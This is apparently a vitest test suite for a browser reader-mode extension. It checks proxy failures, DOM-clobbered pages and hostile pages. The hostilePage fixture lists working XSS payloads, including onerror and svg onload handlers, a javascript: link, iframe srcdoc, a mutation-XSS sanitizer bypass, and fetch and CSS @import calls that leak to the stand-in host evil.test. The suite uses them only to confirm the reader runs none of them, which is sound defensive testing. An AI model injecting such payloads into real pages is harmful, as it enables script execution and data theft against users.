/** Proxies that fail and pages that fight back. */
import { describe, expect, it } from 'vitest';
import { until } from '../support/driver';
import { isFull } from '../support/full';
import {
  EXPECTED_FILE,
  findSavedFile,
  openReader,
  openReadyPopup,
  openSample,
  press,
  pressSave,
  proxyRequests,
  showBar,
} from './actions';
import type { CurrentStage } from './scenarios';

/** Nothing hangs, nothing is lost silently. */
export function describeTrouble(stage: CurrentStage): void {
  describe('trouble', () => {
    for (const proxyMode of isFull ? (['404', 'html', 'empty'] as const) : (['404'] as const)) {
      it(`shows what a picture is when the proxy answers ${proxyMode}, and saves the text`, async () => {
        stage().world.proxyMode = proxyMode;
        const page = await openSample(stage());
        const reader = await openReader(stage(), page);
        await reader.waitUntil('a placeholder for every picture', showPlaceholders);
        expect(proxyRequests(stage()).length).toBeGreaterThan(0);
        const foreign = stage().world.requests.filter(
          ({ host, referer }) => host.startsWith('zkres') && referer?.includes('extension'),
        );
        expect(foreign).toEqual([]);
        await reader.waitUntil('the bar', showBar);
        expect(await pressSave(reader)).toBe('saved');
        expect((await findSavedFile(stage())).content.toString()).toBe(EXPECTED_FILE);
      });
    }

    it('does not hang where Readability would', async () => {
      const names = ['parentNode', 'textContent', 'nextElementSibling', 'tagName', 'getElementsByTagName'];
      for (const name of names.slice(0, isFull ? names.length : 2)) {
        const url = `https://www.example.org/clobbered-${name}/`;
        stage().world.serve(url, clobberedPage(name));
        const page = await stage().browser.openPage(url);
        const popup = await openReadyPopup(stage(), page);
        expect(await popup.text('[data-fact="title"]')).toBe('Lighthouse notes');
        await press(popup, 'reader');
        const reader = await stage().browser.findPage('reader.html');
        await reader.waitFor('[data-reader-state="ready"] article[data-article]');
        expect(await reader.text('article[data-article]')).toContain('The lamp turns once every ten seconds');
        await stage().browser.closePages();
      }
    });

    it('runs nothing of a page in the reader', async () => {
      const url = 'https://www.example.org/hostile/';
      stage().world.serve(url, hostilePage());
      const page = await stage().browser.openPage(url);
      const leaks = () => stage().world.requests.filter(({ url: asked }) => asked.includes('leak'));
      await until('the page to run its own attack', () =>
        leaks().some(({ url: asked }) => asked.endsWith('leak1')),
      );
      stage().world.requests.length = 0;
      const reader = await openReader(stage(), page);
      const seen = await reader.evaluate(() => ({
        isMarked: 'pwned' in globalThis,
        active: document.querySelectorAll(
          'article script, article iframe, article form, article style, article [onerror], article [onclick], article a[href^="javascript"]',
        ).length,
      }));
      expect(seen).toEqual({ isMarked: false, active: 0 });
      expect(leaks()).toEqual([]);
    });
  });
}

/** Runs in the reader, again and again: goes to the next picture that has not failed yet. */
function showPlaceholders(): boolean {
  const picture = document.querySelector('article[data-article] img');
  picture?.scrollIntoView({ block: 'center', behavior: 'instant' });
  return document.querySelectorAll('article[data-article] [data-image="missing"]').length === 4;
}

const PARAGRAPH = `<p>${'The lamp turns once every ten seconds, and the keeper counts the ships that answer it. '.repeat(6)}</p>`;

function clobberedPage(name: string): string {
  return `<!doctype html><html lang="en"><meta charset="utf-8"><title>Lighthouse notes</title><body><article>
    <h1>Lighthouse notes</h1>${PARAGRAPH}<form><input name=${name}></form>${PARAGRAPH.repeat(4)}</article></body></html>`;
}

function hostilePage(): string {
  const attacks = [
    '<img src="x" onerror="globalThis.pwned = 1; fetch(\'https://evil.test/leak1\')">',
    '<a href="javascript:globalThis.pwned=1">a link</a>',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    '<style>@import "https://evil.test/leak2";</style>',
    '<svg onload="globalThis.pwned = 1"><image href="https://evil.test/leak3" /></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">',
  ].map((attack) => `<p>${'Fog came in over the water and stayed until noon. '.repeat(5)}</p>${attack}`);
  return `<!doctype html><html lang="en"><meta charset="utf-8"><title>Fog</title><body><article><h1>Fog</h1>
    ${PARAGRAPH.repeat(3)}${attacks.join('\n')}</article></body></html>`;
}
